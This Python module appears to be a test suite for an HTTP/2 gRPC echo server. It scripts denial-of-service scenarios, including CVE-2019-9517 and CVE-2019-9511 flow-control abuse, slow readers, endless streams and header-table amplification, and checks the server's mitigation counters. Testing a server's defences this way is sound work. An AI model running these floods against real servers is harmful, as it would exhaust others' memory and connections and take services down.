"""Replies that wait or never end: closed windows, sockets that are not read, endless streams, large fields that are returned."""

import itertools

import raw_http2 as h2
from attack import attack
from blocks import head_for_table, head_from_table
from scene import SETTINGS_ACK, headers, head, settings, update

REPLY = head("/echo.Echo/Reply")
REPLY_STREAM = head("/echo.Echo/ReplyStream")
STALLS = {"counters": ("write_stalls", "slow_readers"), "options": ("--write-stall-ms", 600)}
ALL = 2**31 - 1


def message(text_bytes, count=0):
    """An EchoRequest with a text of `text_bytes` bytes, and with `count` unless it is 0."""
    request = b"\x0a" + h2.varint(text_bytes) + b"x" * text_bytes
    return h2.message(request + (b"\x10" + h2.varint(count) if count else b""))


def calls(start, block, payload, count=100):
    """The bytes of a connection with `count` calls, each with the message `payload`."""
    yield start + SETTINGS_ACK
    for stream in range(1, 2 * count, 2):
        yield headers(stream, block) + h2.frame(h2.DATA, h2.END_STREAM, stream, payload)


@attack("CVE-2019-9517", what="large windows, and a socket that is never read: replies pile up in kernel memory",
        counters=(*STALLS["counters"], "address_streams_refused", "address_buffers_exhausted"), options=STALLS["options"])
def unread_replies(scene):
    start = settings((h2.INITIAL_WINDOW_SIZE, ALL)) + update(0, ALL - 65535)
    scene.swarm(100, lambda: calls(start, REPLY_STREAM, message(1900, 1 << 30), 4), read=False, receive_buffer=4096)


@attack("CVE-2019-9511", what="windows of 0 bytes: 100 replies wait on each connection", **STALLS)
def zero_windows(scene):
    start = settings((h2.INITIAL_WINDOW_SIZE, 0))
    scene.swarm(20, lambda: calls(start, REPLY, message(1900)))


@attack(what="windows of 1 byte: replies of 1,900 bytes in frames of 1 byte",
        counters=("write_stalls", "slow_readers", "idle_frame_budgets_spent"),
        options=("--write-stall-ms", 600))
def one_byte_windows(scene):
    def pieces():
        yield from calls(settings((h2.INITIAL_WINDOW_SIZE, 1)), REPLY, message(1900))
        for stream in itertools.cycle(range(1, 201, 2)):
            yield update(stream, 1) * 20

    scene.swarm(8, pieces)


@attack(what="6 connections hold the pool: they read 1 byte of each reply at long intervals",
        counters=("write_stalls", "slow_readers", "address_buffers_exhausted"),
        options=("--write-stall-ms", 600))
def pool_hoarding(scene):
    block = head("/echo.Echo/Reply", [("x-large", "m" * 3000)])

    def pieces():
        start = settings((h2.INITIAL_WINDOW_SIZE, 1))
        yield start + SETTINGS_ACK + b"".join(
            headers(stream, block) + h2.frame(h2.DATA, h2.END_STREAM, stream, message(1900))
            for stream in range(1, 201, 2)
        )
        while True:
            yield b"".join(update(stream, 1) for stream in range(1, 201, 2))

    scene.swarm(6, pieces, pause=0.3)


@attack(what="a socket that is read at 200 bytes a second", **STALLS)
def dripping_reader(scene):
    connections = [
        scene.connect((h2.INITIAL_WINDOW_SIZE, ALL), receive_buffer=2304) for _ in range(20)
    ]
    connections = [each for each in connections if each]
    for connection in connections:
        try:
            connection.send(update(0, ALL - 65535))
            for stream in range(1, 9, 2):
                connection.send(headers(stream, REPLY_STREAM))
                connection.send(h2.frame(h2.DATA, h2.END_STREAM, stream, message(1900, 1 << 30)))
            connection.socket.setblocking(False)
        except h2.Closed:
            pass
    while not scene.over():
        for connection in connections:
            try:
                connection.socket.recv(20)
            except OSError:
                pass
        scene.pause(0.1)


@attack(what="200 streams of endless replies, all of which are read", counters="send_buffer_full")
def endless_streams(scene):
    start = settings((h2.INITIAL_WINDOW_SIZE, ALL)) + update(0, ALL - 65535)
    scene.swarm(4, lambda: calls(start, REPLY_STREAM, message(100, 1 << 30), 50))


@attack(what="an unknown path from the header table, 3,500 bytes long, that comes back in grpc-message",
        counters=("turn_bytes_spent", "address_buffers_exhausted"))
def amplified_path(scene):
    def pieces():
        yield settings() + SETTINGS_ACK
        yield headers(1, head_for_table((":path", "/echo.Echo/" + "%" * 3500)), True)
        for stream in itertools.count(3, 2):
            yield headers(stream, head_from_table(1), True)

    scene.swarm(4, pieces)


@attack(what="metadata from the header table that comes back twice", counters=("turn_bytes_spent", "send_buffer_full"))
def amplified_metadata(scene):
    def pieces():
        yield settings() + SETTINGS_ACK
        yield headers(1, head_for_table((":path", "/echo.Echo/Reply"), ("x-echo-m", "m" * 1000)))
        yield h2.frame(h2.DATA, h2.END_STREAM, 1, message(1))
        for stream in itertools.count(3, 2):
            yield headers(stream, head_from_table(2)) + h2.frame(h2.DATA, h2.END_STREAM, stream, message(1))

    scene.swarm(4, pieces)
